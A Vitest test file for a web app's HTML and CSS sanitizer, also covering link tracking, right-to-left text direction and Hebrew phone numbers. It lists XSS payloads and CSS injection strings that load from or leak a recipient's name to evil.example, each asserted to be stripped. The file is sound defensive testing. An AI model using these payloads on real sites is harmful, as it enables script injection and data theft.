import { describe, expect, it, test } from 'vitest';
import { activeParts } from '../../test/active-part.ts';
import { renderRichText, sanitizeMail, sanitizePage, sanitizeRichText } from './sanitize.ts';
import { sanitizeStyleSheet } from './sanitize-css.ts';
import { newSentinel, valueMark } from './sentinel.ts';

const sentinel = newSentinel();
const context = { baseUrl: 'https://firstlook.example', sentinel };
const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<div style="background:url(javascript:alert(1));width:expression(alert(1))">x</div>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<!--[if mso]><td onclick="alert(1)"><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<details open ontoggle=alert(1)>x</details>',
];

test.each(attacks)('nothing active is left of %s', (attack) => {
  expect(activeParts(sanitizeRichText(attack))).toEqual([]);
  expect(activeParts(sanitizeMail(attack, context).html)).toEqual([]);
  expect(activeParts(sanitizePage(attack, context))).toEqual([]);
});

test('harmless rich text keeps its shape', () => {
  const html =
    '<h2 dir="rtl">כותרת</h2><p style="text-align:start"><strong>מודגש</strong></p><ul><li>אחד</li></ul>';
  expect(sanitizeRichText(html)).toBe(html);
});

test("Outlook's layout tables stay, other comments go", () => {
  const outlook =
    '<!--[if mso | IE]><table role="presentation" style="width:640px;" width="640"><tr><td><![endif]-->';
  const html = `${outlook}<div>x</div><!-- note -->`;
  expect(sanitizeMail(html, context).html).toBe(`${outlook}<div>x</div>`);
});

test('web links are tracked once, our own addresses and mail links are not', () => {
  const leave = valueMark(sentinel, 'unsubscribeUrl');
  const { html, links } = sanitizeMail(
    `<a href="https://a.example/?x=1&amp;y=2">1</a><a href="https://a.example/?x=1&amp;y=2">2</a><a href="mailto:a@b.example">3</a><a href="${leave}">4</a>`,
    context,
  );
  expect(links).toEqual(['https://a.example/?x=1&y=2']);
  expect(html).toContain('href="mailto:a@b.example"');
  expect(html).toContain(`href="${leave}"`);
  expect(html).not.toContain('https://a.example');
});

test('a reader’s link stands behind the address of a file of ours and nowhere else', () => {
  const mark = valueMark(sentinel, 'readerQuery');
  const link = (address: string) => sanitizePage(`<a href="${address}${mark}">x</a>`, context);
  expect(link('/api/file/o/12345678/download')).toContain(mark);
  for (const other of [
    'https://evil.example/',
    '//evil.example/api/file/o/1/download',
    '/api/activity',
    '/l/x?u=',
    '',
  ])
    expect(link(other), other).not.toContain(mark);
});

test('no address and no attribute can carry a name away', () => {
  const name = valueMark(sentinel, 'recipientName');
  const html = `<a href="https://evil.example/?n=${name}">x</a><img src="https://evil.example/${name}.png" alt="${name}">`;
  expect(sanitizeMail(html, context).html).not.toContain(name);
  expect(sanitizePage(html, context)).not.toContain(name);
});

test.each([
  '@import url("https://evil.example/x.css");',
  '@im\\port "https://evil.example/x.css";',
  'a{background:url(https://evil.example/x.png)}',
  'a{background:u\\72l(https://evil.example/x.png)}',
  'a{background:url(//evil.example/x.png)}',
  'a{background:image-set("https://evil.example/x.png" 1x)}',
  'a{background:url(https://firstlook.example.evil.example/x.png)}',
  'a{width:expression(alert(1))}',
  'a{behavior:url(x.htc)}',
  'a{}</style><script>alert(1)</script>',
  '@imp@import x;ort "//evil.example/a.css";',
  '@im\\port "//evil.example/a.css";',
  'a{background:\\75rl(//evil.example/x.png)}',
  'a{background:u/**/rl(//evil.example/x.png)}',
  'a{background:URL(  "//evil.example/x.png"  )}',
  'a{background:-webkit-image-set(url(//evil.example/x.png) 1x)}',
  'a{--x:url(//evil.example/x.png);background:var(--x)}',
  'a{background:src("//evil.example/x.png")}',
  'a{background:url("//evil.example/x.png" crossorigin(anonymous))}',
  '@font-face{font-family:X;src:url(//evil.example/x.woff2)}',
  '@media print{@import "//evil.example/a.css";a{background:url(//evil.example/x.png)}}',
  'a{b{background:url(//evil.example/x.png)}}',
  '@supports (background:url(//evil.example/x.png)){a{color:red}}',
  'a{content:"</style><script>alert(1)</script>"}',
  'a{*behavior:url(x.htc);_behavior:url(x.htc);-moz-binding:url(x)}',
  '@namespace x "//evil.example";@charset "utf-7";a{}',
  'a{color:red;}}@import "//evil.example/a.css";{',
])('a style sheet cannot load from elsewhere or leave its element: %s', (css) => {
  const clean = sanitizeStyleSheet(css, context.baseUrl);
  expect(clean).not.toMatch(
    /url\s*\(\s*"?(?:https?:)?\/\/(?!firstlook\.example\/)|@import|expression\(|behavior|<|image-set/i,
  );
  expect(clean).not.toContain('//');
  expect(clean).not.toMatch(/@(?:namespace|charset)|binding|\bsrc\(/);
});

test('a style sheet may use our own fonts and files', () => {
  const css = '@font-face{font-family:X;src:url("/fonts/x.woff2")}a{background:url(/api/file/o/1/download)}';
  expect(sanitizeStyleSheet(css, context.baseUrl)).toBe(
    '@font-face{font-family:X;src:url(/fonts/x.woff2)}a{background:url(/api/file/o/1/download)}',
  );
});

test('an ordinary style sheet keeps every rule', () => {
  const css = [
    '@media (width>=600px) and (prefers-color-scheme:dark){.a>b:hover,.a::after{color:#fff!important;content:"→"}}',
    '@keyframes x{from{opacity:0}to{opacity:1}}',
    '@container side (min-width:20em){.c{--gap:calc(1rem + 2px);gap:var(--gap)}}',
    '#outlook a{padding:0;mso-table-lspace:0pt;-ms-text-size-adjust:100%}',
  ].join('');
  expect(sanitizeStyleSheet(css, context.baseUrl).replaceAll("'", '"')).toBe(css);
});

describe('directions of rich text', () => {
  const list =
    '<ul dir="auto"><li dir="auto"><p dir="auto">ראשון</p><ul dir="auto"><li>פנימי</li></ul></li></ul><p dir="auto">After</p>';

  it('are not stored, save for one that a person chose', () => {
    expect(sanitizeRichText(list)).toBe('<ul><li><p>ראשון</p><ul><li>פנימי</li></ul></li></ul><p>After</p>');
    expect(sanitizeRichText('<p dir="rtl">x</p>')).toBe('<p dir="rtl">x</p>');
  });

  it('a list finds its own, and its items follow it', () => {
    expect(renderRichText(list)).toBe(
      '<ul dir="auto"><li><p>ראשון</p><ul><li>פנימי</li></ul></li></ul><p dir="auto">After</p>',
    );
  });
});

describe('phone numbers keep their order, whatever stands around them', () => {
  const text = '<p>טלפון: +972-50-555-1234, או 03-555 1234 שלוחה 7</p>';
  const inOrder =
    '<p>טלפון: <bdi dir="ltr">+972-50-555-1234</bdi>, או <bdi dir="ltr">03-555 1234</bdi> שלוחה 7</p>';

  it('on a page and in a mail', () => {
    expect(sanitizePage(text, context)).toBe(inOrder);
    expect(sanitizeMail(text, context).html).toBe(inOrder);
  });

  it('once only, and never inside an address', () => {
    expect(sanitizePage(inOrder, context)).toBe(inOrder);
    const link = '<a href="https://a.example/0123456789">here</a>';
    expect(sanitizePage(link, context)).not.toContain('bdi');
  });
});
